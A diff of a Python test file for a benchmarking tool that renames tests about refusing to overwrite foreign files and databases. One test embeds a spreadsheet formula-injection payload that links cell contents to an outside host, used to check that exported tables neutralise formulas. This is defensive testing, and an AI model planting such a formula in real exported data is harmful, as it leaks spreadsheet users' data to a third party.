@@ -30,7 +30,7 @@ OWN = {
 
 
 @pytest.mark.parametrize("kind", KINDS)
-def test_a_kind_replaces_its_own_files_empty_ones_and_none_of_another_kind(kind, tmp_path):
+def test_kind_replaces_its_own_files_and_no_others(kind, tmp_path):
     refuse_other_kinds(tmp_path / "missing", kind)
     (tmp_path / "empty").touch()
     refuse_other_kinds(tmp_path / "empty", kind)
@@ -40,20 +40,22 @@ def test_a_kind_replaces_its_own_files_empty_ones_and_none_of_another_kind(kind,
         if other == kind:
             refuse_other_kinds(file, kind)
         else:
-            with pytest.raises(UsageError, match=f"exists and is no {kind} file, so it is left as it is: name another"):
+            with pytest.raises(
+                UsageError, match=f"refusing to overwrite .*: it is not a file of type {kind}; name another"
+            ):
                 refuse_other_kinds(file, kind)
 
 
-def test_a_drawing_with_a_declaration_is_a_drawing(tmp_path):
+def test_svg_with_an_xml_declaration_is_recognised(tmp_path):
     file = tmp_path / "figure.svg"
     file.write_bytes(b"<?xml version='1.0'?>\n<svg xmlns='http://www.w3.org/2000/svg'/>")
     refuse_other_kinds(file, "SVG")
-    with pytest.raises(UsageError, match="is no XML file"):
+    with pytest.raises(UsageError, match="not a file of type XML"):
         refuse_other_kinds(file, "XML")
 
 
-def test_a_device_and_a_file_for_a_folder_are_refused(tmp_path):
-    with pytest.raises(UsageError, match="is no regular file"):
+def test_device_and_file_in_place_of_a_folder_are_refused(tmp_path):
+    with pytest.raises(UsageError, match="is not a regular file"):
         refuse_other_kinds(Path("/dev/null"), "HTML")
     (tmp_path / "file").touch()
     with pytest.raises(UsageError, match="is a file and is left as it is: name a folder"):
@@ -104,7 +106,7 @@ def test_no_command_replaces_a_database_or_a_program(orthobench, filled, tmp_pat
     assert (tmp_path / target).read_bytes() == before
 
 
-def test_a_report_is_replaced_by_the_next_one(orthobench, filled, tmp_path):
+def test_report_is_replaced_by_the_next_one(orthobench, filled, tmp_path):
     shutil.copy(filled, tmp_path / "results.db")
     for _ in range(2):
         assert orthobench("report", "--html", "-o", "page.html").code == 0
@@ -113,7 +115,7 @@ def test_a_report_is_replaced_by_the_next_one(orthobench, filled, tmp_path):
 
 
 @pytest.mark.parametrize("command", [("run", "adding", "rnn"), ("sweep", "adding", "--models", "rnn"), ("db", "merge")])
-def test_another_programs_database_is_refused_and_unchanged(orthobench, filled, tmp_path, command, tiny_options):
+def test_database_of_another_program_is_refused_and_unchanged(orthobench, filled, tmp_path, command, tiny_options):
     other = tmp_path / "other.db"
     with closing(sqlite3.connect(other)) as connection, connection:
         connection.execute("CREATE TABLE bookmarks (url TEXT)")
@@ -127,7 +129,7 @@ def test_another_programs_database_is_refused_and_unchanged(orthobench, filled, 
     assert not list(tmp_path.glob("other.db-*"))
 
 
-def test_no_table_has_a_formula_for_a_spreadsheet(tmp_path, orthobench):
+def test_no_cell_of_a_table_is_a_spreadsheet_formula(tmp_path, orthobench):
     formula = '=HYPERLINK("http://example.org/?x="&A1,"click")'
     with open_store(str(tmp_path / "r.db"), create=True) as store:
         key = add_run(store, "lstm", message=formula)
